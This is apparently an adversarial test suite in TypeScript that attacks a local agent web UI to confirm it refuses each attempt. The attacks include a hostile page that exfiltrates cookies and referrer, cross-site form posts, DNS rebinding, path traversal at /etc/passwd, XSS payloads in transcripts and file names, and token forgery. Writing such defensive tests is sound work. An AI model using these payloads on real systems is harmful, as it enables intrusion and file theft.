import {
  type ClientRequest,
  createServer,
  type IncomingMessage,
  request as httpRequest,
  type Server,
} from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { launchChromium } from '../test/cli/support/chromium.ts';
import { type CliChild, printedUrl, send, startCli } from '../test/cli/support/ui-child.ts';
import {
  AGENTS_MODULE,
  type Attack,
  type AttackContext,
  callBodies,
  faultNotProven,
  interruptedRun,
  revivedCount,
  sleep,
  verdict,
  writeTranscript,
} from './support.ts';

/*
 * `llm-agent ui`, attacked as a web page and a local process would: another port of 127.0.0.1
 * that the user's browser visits, a host name rebound to 127.0.0.1, a form posted from
 * another site, paths that climb out, transcripts full of HTML and script opened in Chromium,
 * hundreds of event streams, a run with one enormous record. Nothing may start a revive but the
 * ui's own page, nothing may read a file outside the tree, nothing from a transcript may run
 * as script, and no request may stall the others.
 *
 * The ui's token is the first segment of every path (`http://127.0.0.1:PORT/TOKEN/…`): the
 * attacks that play the user's own page use that URL; those that play an attacker know only
 * the origin, or the token without the page's other means (its header, its Origin, its Host).
 */

interface Ui {
  cli: CliChild;
  /** The URL printed, `http://127.0.0.1:PORT/TOKEN/`: every page of the ui is below it. */
  url: string;
  /** Its origin: http://127.0.0.1:PORT. */
  base: string;
  /** The token: the URL's first path segment. */
  token: string;
  transcript: string;
}

/** A tree with one revivable run, served by `llm-agent ui`. */
async function startUi(context: AttackContext, bodies = interruptedRun()): Promise<Ui> {
  const transcript = join(context.folder, 'runs', 'main.jsonl');
  await writeTranscript(transcript, bodies);
  const cli = startCli(['ui', 'runs', '--agents', AGENTS_MODULE], context.folder);
  const url = await printedUrl(cli, 60_000);
  const parsed = new URL(url);
  return { cli, url, base: parsed.origin, token: parsed.pathname.split('/')[1] ?? '', transcript };
}

async function stopUi(ui: Ui | undefined): Promise<void> {
  if (ui === undefined || ui.cli.child.exitCode !== null) return;
  ui.cli.child.kill('SIGTERM');
  const timer = setTimeout(() => ui.cli.child.kill('SIGKILL'), 10_000);
  await ui.cli.exited;
  clearTimeout(timer);
}

/** The token the ui's page carries for a Confirm (its meta tag), as the page gets it. */
async function pageToken(ui: Ui): Promise<string> {
  const reply = await send(ui.url);
  return /<meta name="llm-agent-token" content="([^"]*)"/.exec(reply.body)?.[1] ?? '';
}

/** The full URL of the run `main`, from the tree page's own (relative) link to it. */
async function runUrl(ui: Ui): Promise<string> {
  const tree = await send(ui.url);
  const href = /href="(run\?path=[^"]*main\.jsonl)"/.exec(tree.body)?.[1];
  return `${ui.url}${(href ?? 'run?path=main.jsonl').replaceAll('&amp;', '&')}`;
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    }),
  );
}

/** VmHWM of a process, in MB (0 once it is gone). */
function peakMb(pid: number | undefined): number {
  try {
    const status = readFileSync(`/proc/${pid}/status`, 'latin1');
    return Math.round(Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) / 1024);
  } catch {
    return 0;
  }
}

/** What a server on another port received: each request's path and headers, and its body. */
interface Received {
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** A server on 127.0.0.1 that records every request and answers as `answer` says. */
function recordingServer(
  answer: (url: string) => { status?: number; headers: Record<string, string>; body: string },
): { server: Server; received: Received[] } {
  const received: Received[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (chunk: string) => {
      body += chunk;
    });
    request.on('end', () => {
      const url = request.url ?? '/';
      received.push({ url, headers: request.headers, body });
      const { status = 200, headers, body: text } = answer(url);
      response.writeHead(status, headers);
      response.end(text);
    });
  });
  return { server, received };
}

/**
 * The page of another local server: it frames the ui, reads what it can of it, posts to it
 * every way a page can, and reports what it saw (its cookies, its referrer, the frame).
 */
function hostilePage(uiBase: string): string {
  return `<!doctype html><title>another local server</title>
<iframe id="frame" src="${uiBase}/"></iframe>
<script>
(async () => {
  const tries = [];
  for (const path of ['/', '/revive', '/events', '/app.js']) {
    try {
      const reply = await fetch('${uiBase}' + path, { method: path === '/revive' ? 'POST' : 'GET', mode: 'no-cors', credentials: 'include' });
      tries.push(path + ': ' + reply.type);
    } catch (error) { tries.push(path + ': ' + error); }
  }
  await new Promise((done) => setTimeout(done, 500));
  let framed;
  try { framed = String(document.getElementById('frame').contentDocument?.body?.innerHTML); } catch (error) { framed = 'blocked'; }
  await fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, referrer: document.referrer, tries, framed }) });
})();
</script>`;
}

/** Every value a request carried that could be a secret: cookie values, the referrer, the path. */
function carriedValues(received: Received[]): Set<string> {
  const values = new Set<string>();
  for (const request of received) {
    for (const pair of String(request.headers.cookie ?? '').split(';')) {
      const value = pair.slice(pair.indexOf('=') + 1).trim();
      if (value !== '') values.add(value);
    }
    for (const part of `${request.headers.referer ?? ''}/${request.url}`.split(/[/?&=#]/)) {
      if (part.length >= 16) values.add(part);
    }
  }
  return values;
}

const tokenToOtherPort: Attack = {
  name: 'ui-token-to-other-port',
  family: 'ui',
  awaits: 'ui',
  what: "in Chromium, with the ui's page open, the user follows a link from it to a page of another local port, which frames the ui, fetches and posts to it, and redirects to it: that server learns nothing (no cookie of the ui, no Referer, no token) and a plain client replaying all it got starts nothing",
  timeoutMs: 180_000,
  async run(context) {
    let ui: Ui | undefined;
    const canary = createServer((_request, response) => {
      response.writeHead(200, {
        'Content-Type': 'text/html',
        'Set-Cookie': 'canary=from_another_port; Path=/',
      });
      response.end('<p>canary</p>');
    });
    let uiBase = '';
    const hostile = recordingServer((url) =>
      url === '/'
        ? { headers: { 'Content-Type': 'text/html' }, body: hostilePage(uiBase) }
        : url === '/bounce'
          ? { status: 302, headers: { Location: `${uiBase}/` }, body: '' }
          : { headers: { 'Content-Type': 'text/plain' }, body: 'ok' },
    );
    const browser = await launchChromium();
    try {
      ui = await startUi(context);
      uiBase = ui.base;
      const canaryPort = await listen(canary);
      const otherPort = await listen(hostile.server);
      const page = await browser.newPage();
      await page.goto(`http://127.0.0.1:${canaryPort}/`);
      const shown = await page.goto(ui.url);
      if (shown?.status() !== 200) return faultNotProven(`the ui page answered ${shown?.status()}`);
      // The user follows a link from the ui's page to the other server (a link in a transcript).
      await page.evaluate(
        `(() => { const link = document.createElement('a'); link.href = 'http://127.0.0.1:${otherPort}/'; document.body.append(link); link.click(); })()`,
      );
      for (let waited = 0; !hostile.received.some((r) => r.url === '/report'); waited += 100) {
        if (waited > 20_000) return faultNotProven('the page of the other port never reported');
        await sleep(100);
      }
      const bounced = await page.goto(`http://127.0.0.1:${otherPort}/bounce`);
      const report = JSON.parse(
        hostile.received.find((r) => r.url === '/report')?.body ?? '{}',
      ) as { cookie?: string; referrer?: string; tries?: string[]; framed?: string };
      // The fault: this browser sends one port's cookies to another.
      if (!/canary=from_another_port/.test(String(hostile.received[0]?.headers.cookie)))
        return faultNotProven("the browser did not send another port's cookie");
      const everything = JSON.stringify({ received: hostile.received, report });
      const leaked = everything.includes(ui.token);
      const tries: string[] = [];
      for (const value of carriedValues(hostile.received)) {
        for (const [path, headers] of [
          ['/revive', { Cookie: `llm_agent_ui=${value}`, 'X-LLM-Agent-Token': value }],
          [`/${encodeURIComponent(value)}/revive`, { 'X-LLM-Agent-Token': value }],
          [`/${encodeURIComponent(value)}/`, {}],
        ] as const) {
          const method = path.endsWith('revive') ? 'POST' : 'GET';
          const reply = await send(`${ui.base}${path}`, { method, headers });
          if (reply.status < 400) tries.push(`${method} ${path.slice(0, 24)}…: ${reply.status}`);
        }
      }
      await sleep(1500);
      const revived = revivedCount(ui.transcript);
      // The first request is the one the ui's page sent, following its link.
      const fromUi = hostile.received[0]?.headers.referer ?? 'none';
      return verdict(
        !leaked &&
          fromUi === 'none' &&
          tries.length === 0 &&
          revived === 0 &&
          (bounced?.status() ?? 0) >= 400,
        `the other port got ${hostile.received.length} requests with its cookie canary (the one from the ui's link with Referer: ${fromUi}), the token ${leaked ? 'LEAKED' : 'in none'}; its page: ${report.tries?.join(', ')}, the framed ui read as ${JSON.stringify(report.framed ?? '').slice(0, 40)}; a redirect to the ui's origin lands on ${bounced?.status()}; replays that got in: ${tries.join('; ') || 'none'}; run-revived records: ${revived}`,
      );
    } finally {
      await browser.close();
      canary.close();
      hostile.server.close();
      await stopUi(ui);
    }
  },
};

const hugeRecord: Attack = {
  name: 'ui-huge-record',
  family: 'ui',
  awaits: 'ui',
  what: "a run whose one tool result is 48 MB: while its page is asked for in four tabs at once and its whole value is downloaded, the tree page and a 3 KB script are still served at once, the pages hold the value folded, and the server's memory does not grow with the tabs",
  timeoutMs: 240_000,
  alone: true,
  async run(context) {
    const megabytes = context.quick ? 24 : 48;
    const { call, dispatch } = callBodies('call_big', 'effect', { what: 'big' }, 'read-only');
    const bodies = [
      ...interruptedRun().slice(0, 2),
      call,
      dispatch,
      {
        type: 'message' as const,
        role: 'tool' as const,
        content: [
          {
            type: 'tool-result' as const,
            callId: 'call_big',
            toolName: 'effect',
            output: 'x'.repeat(megabytes * 1_000_000),
            isError: false,
          },
        ],
      },
      { type: 'tool-settled' as const, callId: 'call_big', status: 'completed' as const },
    ];
    let ui: Ui | undefined;
    try {
      ui = await startUi(context, bodies);
      const timed = async (url: string) => {
        const began = performance.now();
        const reply = await send(url).catch(() => ({ status: 0, body: '' }));
        return {
          status: reply.status,
          ms: Math.round(performance.now() - began),
          body: reply.body,
        };
      };
      const baseline = await timed(`${ui.url}app.js`);
      const runPage = await runUrl(ui);
      const afterTree = peakMb(ui.cli.child.pid);
      const first = await timed(runPage);
      const afterPage = peakMb(ui.cli.child.pid);
      const valueHref = /href="(value\?[^"]*)"/.exec(first.body)?.[1]?.replaceAll('&amp;', '&');
      // The fault: the record is there, whole, and the page drew the run with it.
      if (readFileSync(ui.transcript).length < megabytes * 1_000_000)
        return faultNotProven('the transcript does not hold the huge record');
      if (first.status !== 200 || valueHref === undefined)
        return faultNotProven(`the run page answered ${first.status} without the value's link`);
      const pages = [0, 1, 2, 3].map(() => timed(runPage));
      const whole = timed(`${ui.url}${valueHref}`);
      await sleep(200);
      const during = await timed(`${ui.url}app.js`);
      const tree = await timed(ui.url);
      const rendered = await Promise.all(pages);
      const value = await whole;
      const peak = peakMb(ui.cli.child.pid);
      // Asking again, in four tabs and for the whole value, must not multiply what one page
      // costs (it did: 4 tabs, 1.4 GB): at most the value's own copies on top — the served
      // value's line as read, its parse, the string sliced and the reply's buffers, about 5
      // (4.4 measured with the render worker warm and the section cache on) — and never past
      // 1 GB (what one page of this run cost before it was drawn in a worker).
      const bound = Math.min(afterPage + 5 * megabytes, 1000);
      const held =
        during.status === 200 &&
        during.ms <= baseline.ms + 1000 &&
        tree.status === 200 &&
        tree.ms <= 3000 &&
        peak <= bound &&
        value.body.length === megabytes * 1_000_000 &&
        rendered.every((reply) => reply.status === 200 && reply.body.length < 2_000_000);
      return verdict(
        held,
        `${megabytes} MB record: /app.js alone ${baseline.ms} ms, while 4 run pages render and the value downloads ${during.ms} ms, the tree page ${tree.status} in ${tree.ms} ms; run pages ${rendered.map((reply) => `${reply.status} (${Math.round(reply.body.length / 1000)} kB) in ${reply.ms} ms`).join(', ')}; the whole value ${value.status}, ${Math.round(value.body.length / 1e6)} MB in ${value.ms} ms; ui peak RSS ${afterTree} MB after the tree, ${afterPage} MB after one run page, ${peak} MB at the end (bound ${bound})`,
      );
    } finally {
      await stopUi(ui);
    }
  },
};

const dnsRebinding: Attack = {
  name: 'ui-dns-rebinding',
  family: 'ui',
  what: 'requests with the right token under another Host (a name rebound to 127.0.0.1): refused, the page and /revive alike',
  async run(context) {
    let ui: Ui | undefined;
    try {
      ui = await startUi(context);
      const token = await pageToken(ui);
      const port = new URL(ui.base).port;
      const host = `attacker.example:${port}`;
      const get = await send(ui.url, { headers: { Host: host } });
      const post = await send(`${ui.url}revive`, {
        method: 'POST',
        headers: { Host: host, 'X-LLM-Agent-Token': token },
      });
      const own = await send(ui.url);
      if (own.status !== 200) return faultNotProven(`the ui's own URL answered ${own.status}`);
      await sleep(1000);
      return verdict(
        get.status >= 400 && post.status >= 400 && revivedCount(ui.transcript) === 0,
        `Host ${host}: GET ${get.status}, POST /TOKEN/revive ${post.status} (own Host: ${own.status}); run-revived records: ${revivedCount(ui.transcript)}`,
      );
    } finally {
      await stopUi(ui);
    }
  },
};

const crossSiteRevive: Attack = {
  name: 'ui-cross-site-revive',
  family: 'ui',
  full: true,
  what: "a page on another port that knows the ui's URL posts a form to its /revive after the user opened the ui, and plain requests carry the page's token from a foreign Origin or without its header: nothing starts",
  timeoutMs: 180_000,
  async run(context) {
    let ui: Ui | undefined;
    const browser = await launchChromium();
    const attacker = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(
        `<!doctype html><form id=f method=POST action="${ui?.url}revive"><input name=x value=1></form><script>document.getElementById('f').submit()</script>`,
      );
    });
    try {
      ui = await startUi(context);
      const token = await pageToken(ui);
      const port = await listen(attacker);
      const page = await browser.newPage();
      if ((await page.goto(ui.url))?.status() !== 200) return faultNotProven('the ui did not load');
      let formAnswer = 0;
      page.on('response', (response) => {
        if (response.url().endsWith('/revive')) formAnswer = response.status();
      });
      await page.goto(`http://127.0.0.1:${port}/`);
      await page.waitForURL(`${ui.url}revive`, { timeout: 15_000 }).catch(() => undefined);
      if (formAnswer === 0) return faultNotProven('the form never reached /revive');
      const foreign = await send(`${ui.url}revive`, {
        method: 'POST',
        headers: { Origin: 'http://attacker.example', 'X-LLM-Agent-Token': token },
      });
      const pathOnly = await send(`${ui.url}revive`, { method: 'POST' });
      await sleep(1500);
      const revived = revivedCount(ui.transcript);
      return verdict(
        formAnswer >= 400 && foreign.status >= 400 && pathOnly.status >= 400 && revived === 0,
        `form from another port: ${formAnswer}; token from a foreign Origin: ${foreign.status}; the URL without the header: ${pathOnly.status}; run-revived records: ${revived}`,
      );
    } finally {
      await browser.close();
      attacker.close();
      await stopUi(ui);
    }
  },
};

/** A GET whose path is sent as written (no client folds its `..` away). */
function rawGet(base: string, path: string): Promise<{ status: number; body: string }> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve) => {
    const request = httpRequest({ host: hostname, port, path, timeout: 10_000 }, (response) => {
      let body = '';
      response.setEncoding('utf8').on('data', (chunk: string) => {
        body += chunk;
      });
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
    });
    request.on('timeout', () => request.destroy());
    request.on('error', () => resolve({ status: 0, body: '' }));
    request.end();
  });
}

const pathTraversal: Attack = {
  name: 'ui-path-traversal',
  family: 'ui',
  what: 'run and value paths and URLs below the token that climb out of the tree (../, encoded, absolute, a NUL), at /etc/passwd and at a run beside the tree: never a file outside it',
  async run(context) {
    let ui: Ui | undefined;
    try {
      const secret = join(context.folder, 'outside', 'secret.jsonl');
      await writeTranscript(secret, interruptedRun({ label: 'SECRET-OUTSIDE-THE-TREE' }));
      ui = await startUi(context);
      const t = `/${ui.token}`;
      const paths = [
        `${t}/run?path=../../../../etc/passwd`,
        `${t}/run?path=%2Fetc%2Fpasswd`,
        `${t}/run?path=..%2F..%2F..%2Fetc%2Fpasswd`,
        `${t}/run?path=${encodeURIComponent(secret)}`,
        `${t}/run?path=..%2Foutside%2Fsecret.jsonl`,
        `${t}/run?path=runs%2F..%2Foutside%2Fsecret.jsonl`,
        `${t}/value?path=${encodeURIComponent(secret)}&seq=1&part=0`,
        `${t}/value?path=%2Fetc%2Fpasswd&seq=1&part=0`,
        `${t}/../../../../etc/passwd`,
        `${t}/%2e%2e/%2e%2e/%2e%2e/etc/passwd`,
        `${t}/..%2f..%2f..%2fetc%2fpasswd`,
        '/../../../../etc/passwd',
        `${t}/run?path=main.jsonl%00../../etc/passwd`,
      ];
      const seen: string[] = [];
      let leaked = false;
      for (const path of paths) {
        const reply = await rawGet(ui.base, path);
        leaked ||= /root:x?:0:0/.test(reply.body) || reply.body.includes('SECRET-OUTSIDE');
        seen.push(`${path.replace(ui.token, 'TOKEN').slice(0, 60)} → ${reply.status}`);
      }
      const own = await send(await runUrl(ui));
      if (own.status !== 200 || !own.body.includes('main'))
        return faultNotProven(`the run's own page answered ${own.status}`);
      return verdict(
        !leaked,
        `${seen.join('; ')}; ${leaked ? 'a file outside the tree LEAKED' : 'nothing outside the tree served'} (the run's own page: ${own.status})`,
      );
    } finally {
      await stopUi(ui);
    }
  },
};

const scriptInTranscript: Attack = {
  name: 'ui-script-in-transcript',
  family: 'ui',
  full: true,
  what: 'labels, tasks, tool names and file names full of HTML and script, rendered in Chromium: nothing runs, nothing leaves the page',
  timeoutMs: 180_000,
  async run(context) {
    const payloads = [
      `<img src=x onerror="window.__pwned=1">`,
      `</script><script>window.__pwned=2</script>`,
      `"><svg onload=window.__pwned=3>`,
      `javascript:window.__pwned=4`,
    ] as const;
    await writeTranscript(
      join(context.folder, 'runs', `"><img src=x onerror=window.__pwned=5>.jsonl`),
      interruptedRun({ agentId: 'other', label: payloads[2], task: payloads[3] }),
    );
    let ui: Ui | undefined;
    const browser = await launchChromium();
    try {
      ui = await startUi(context, interruptedRun({ label: payloads[0], task: payloads[1] }));
      const page = await browser.newPage();
      const elsewhere: string[] = [];
      const dialogs: string[] = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(`${ui?.base}/`)) elsewhere.push(request.url());
      });
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await page.goto(ui.url);
      const html = await page.content();
      if (!html.includes('onerror')) return faultNotProven('the payload is not on the page');
      await page.goto(await runUrl(ui));
      await sleep(500);
      const pwned = await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned ?? null);
      return verdict(
        pwned === null && dialogs.length === 0 && elsewhere.length === 0,
        `payloads on the tree and run pages; window.__pwned ${pwned ?? 'unset'}; dialogs ${dialogs.length}; requests elsewhere ${elsewhere.length}`,
      );
    } finally {
      await browser.close();
      await stopUi(ui);
    }
  },
};

const eventFlood: Attack = {
  name: 'ui-event-stream-flood',
  family: 'ui',
  what: '300 event streams held open at once: the page is still served promptly and the ui stays up',
  async run(context) {
    let ui: Ui | undefined;
    const streams: ClientRequest[] = [];
    try {
      ui = await startUi(context);
      const baselineStart = performance.now();
      await send(ui.url);
      const baseline = performance.now() - baselineStart;
      let opened = 0;
      for (let index = 0; index < 300; index++) {
        const stream = httpRequest(`${ui.url}events`, (response) => {
          if (response.statusCode === 200) opened += 1;
          response.resume();
        });
        stream.on('error', () => undefined);
        stream.end();
        streams.push(stream);
      }
      for (let waited = 0; opened < 300 && waited < 5000; waited += 100) await sleep(100);
      if (opened === 0) return faultNotProven('no event stream opened');
      const began = performance.now();
      const reply = await send(ui.url).catch(() => ({ status: 0 }));
      const ms = performance.now() - began;
      return verdict(
        reply.status === 200 && ms <= baseline + 5000 && ui.cli.child.exitCode === null,
        `${opened} of 300 streams open; the page answered ${reply.status} in ${Math.round(ms)} ms (alone ${Math.round(baseline)} ms); ui ${ui.cli.child.exitCode === null ? 'up' : 'gone'}`,
      );
    } finally {
      for (const stream of streams) stream.destroy();
      await stopUi(ui);
    }
  },
};

const noToken: Attack = {
  name: 'ui-forged-token',
  family: 'ui',
  what: 'every route without the token, with a forged one of the same length (in the path, a cookie, the header), with the token in another header or the query: refused',
  async run(context) {
    let ui: Ui | undefined;
    try {
      ui = await startUi(context);
      const token = await pageToken(ui);
      if (token !== ui.token) return faultNotProven('the page holds no token, or another');
      const forged = token.replace(/./g, (character) => (character === 'a' ? 'b' : 'a'));
      const run = (await runUrl(ui)).slice(ui.url.length);
      const seen: string[] = [];
      let leaked = false;
      for (const route of ['', 'app.js', 'events', run]) {
        for (const [label, url, headers] of [
          ['no token', `${ui.base}/${route}`, {}],
          ['forged path', `${ui.base}/${forged}/${route}`, {}],
          ['forged cookie', `${ui.base}/${route}`, { Cookie: `llm_agent_ui=${forged}` }],
          ['the token as a cookie', `${ui.base}/${route}`, { Cookie: `llm_agent_ui=${token}` }],
          [
            'the token as Authorization',
            `${ui.base}/${route}`,
            { Authorization: `Bearer ${token}` },
          ],
          [
            'the token in the query',
            `${ui.base}/${route}${route.includes('?') ? '&' : '?'}token=${token}`,
            {},
          ],
        ] as [string, string, Record<string, string>][]) {
          const reply = await new Promise<{ status: number }>((resolve) => {
            void send(url, { headers }).then(resolve, () => resolve({ status: 0 }));
            setTimeout(() => resolve({ status: -1 }), 3000);
          });
          if (reply.status === 200) {
            leaked = true;
            seen.push(`/${route} with ${label}: 200`);
          }
        }
      }
      const post = await send(`${ui.base}/${forged}/revive`, {
        method: 'POST',
        headers: { 'X-LLM-Agent-Token': forged },
      });
      const wrongHeader = await send(`${ui.url}revive`, {
        method: 'POST',
        headers: { 'X-LLM-Agent-Token': forged },
      });
      return verdict(
        !leaked && post.status >= 400 && wrongHeader.status >= 400,
        `${leaked ? seen.join('; ') : 'every route refused without the token in its path'}; POST /revive with a forged token: ${post.status}; the right path with a forged header: ${wrongHeader.status}`,
      );
    } finally {
      await stopUi(ui);
    }
  },
};

/** The attacks on `llm-agent ui`. */
export const UI_ATTACKS: Attack[] = [
  tokenToOtherPort,
  hugeRecord,
  dnsRebinding,
  crossSiteRevive,
  pathTraversal,
  scriptInTranscript,
  eventFlood,
  noToken,
];
